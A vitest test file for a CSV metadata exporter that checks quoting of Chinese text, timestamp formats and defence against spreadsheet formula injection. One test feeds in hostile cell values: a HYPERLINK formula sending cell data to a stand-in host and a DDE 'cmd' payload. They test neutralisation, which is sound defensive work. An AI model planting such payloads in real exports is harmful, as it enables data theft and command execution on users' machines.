import { describe, expect, it } from 'vitest';
import { csvRow } from '../../lib/bundle/metadata-csv';
import { writeBundle } from '../../lib/bundle/write';
import { makeCaptureRecord } from '../helpers/records';
import { memorySink } from './memory-sink';
import { parseCsv, textOf, unpack } from './unzip';

async function metadataOf(records: ReturnType<typeof makeCaptureRecord>[]) {
  const sink = memorySink();
  await writeBundle(records, sink, { format: 'zip' });
  return textOf(unpack(sink.bytes()), 'metadata.csv');
}

describe('metadata.csv', () => {
  it('quotes commas, quotes and line breaks in Chinese text so a CSV parser gets the values back', async () => {
    const tricky = makeCaptureRecord({
      title: '关于“十四五”规划，"重点项目"的通知',
      author: '张三,李四，王五',
      note: '第一行\r\n第二行\n第三行\r',
      source: '"人民网"',
      keywords: ['规划', '项目,重点'],
      tags: ['待核实'],
    });
    const plain = makeCaptureRecord({ keywords: [] });
    const csv = await metadataOf([tricky, plain]);

    expect(csv.startsWith('\uFEFF')).toBe(true);
    const rows = parseCsv(csv.slice(1));
    expect(rows).toHaveLength(3);
    const [header, first, second] = rows;
    const value = (row: string[], name: string) => row[header.indexOf(name)];
    expect(rows.every((row) => row.length === header.length)).toBe(true);
    expect(value(first, 'title')).toBe(tricky.title);
    expect(value(first, 'author')).toBe(tricky.author);
    expect(value(first, 'note')).toBe(tricky.note);
    expect(value(first, 'source')).toBe(tricky.source);
    expect(value(first, 'keywords')).toBe('规划;项目,重点');
    expect(value(first, 'views')).toBe('1024');
    expect(value(first, 'has_html')).toBe('false');
    expect(value(first, 'published_date')).toBe('2024-11-20');
    expect(value(second, 'keywords')).toBe('');
    expect(value(second, 'id')).toBe(plain.id);
  });

  it('neutralises cells a spreadsheet would run as formulas; articles.jsonl and texts/ keep the exact values', async () => {
    const hostile = makeCaptureRecord({
      title: '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
      source: '+cmd|\' /C calc\'!A0',
      author: '-2+3',
      column: '@SUM(1+1)',
      note: '\t=1',
      keywords: ['=1+1', '正常'],
      editor: '李四',
    });
    const sink = memorySink();
    await writeBundle([hostile], sink, { format: 'zip' });
    const files = unpack(sink.bytes());
    const [header, row] = parseCsv(textOf(files, 'metadata.csv').slice(1));
    const value = (name: string) => row[header.indexOf(name)];
    expect(value('title')).toBe(`'${hostile.title}`);
    expect(value('source')).toBe(`'${hostile.source}`);
    expect(value('author')).toBe("'-2+3");
    expect(value('column')).toBe("'@SUM(1+1)");
    expect(value('note')).toBe("'\t=1");
    expect(value('keywords')).toBe("'=1+1;正常");
    expect(value('editor')).toBe('李四');
    expect(value('published_at')).toBe(hostile.published_at);
    expect(JSON.parse(textOf(files, 'articles.jsonl')).title).toBe(hostile.title);
    const textFile = [...files.keys()].find((name) => name.startsWith('texts/'))!;
    expect(textOf(files, textFile).split('\n')[0]).toBe(hostile.title);
  });

  it('has every field but the texts, and times in the Table Schema datetime form', async () => {
    const record = makeCaptureRecord({ captured_at: '2024-11-21T03:04:05.678Z', extracted: { author: null } });
    const [header, row] = parseCsv((await metadataOf([record])).slice(1));
    expect(header).not.toContain('text');
    expect(header).not.toContain('text_original');
    for (const field of ['id', 'url', 'title', 'published_at', 'source', 'author', 'editor', 'chars', 'sha256', 'tags']) {
      expect(header).toContain(field);
    }
    expect(row[header.indexOf('captured_at')]).toBe('2024-11-21T03:04:05Z');
    expect(JSON.parse(row[header.indexOf('extracted')])).toEqual({ author: null });
    expect(row[header.indexOf('text_file')]).toBe(`texts/0001_${record.id}.txt`);
  });

  it('ends every row with CRLF and leaves plain values unquoted', () => {
    expect(csvRow(['a', '', '中文'])).toBe('a,,中文\r\n');
    expect(csvRow(['a"b', 'c\nd'])).toBe('"a""b","c\nd"\r\n');
  });
});
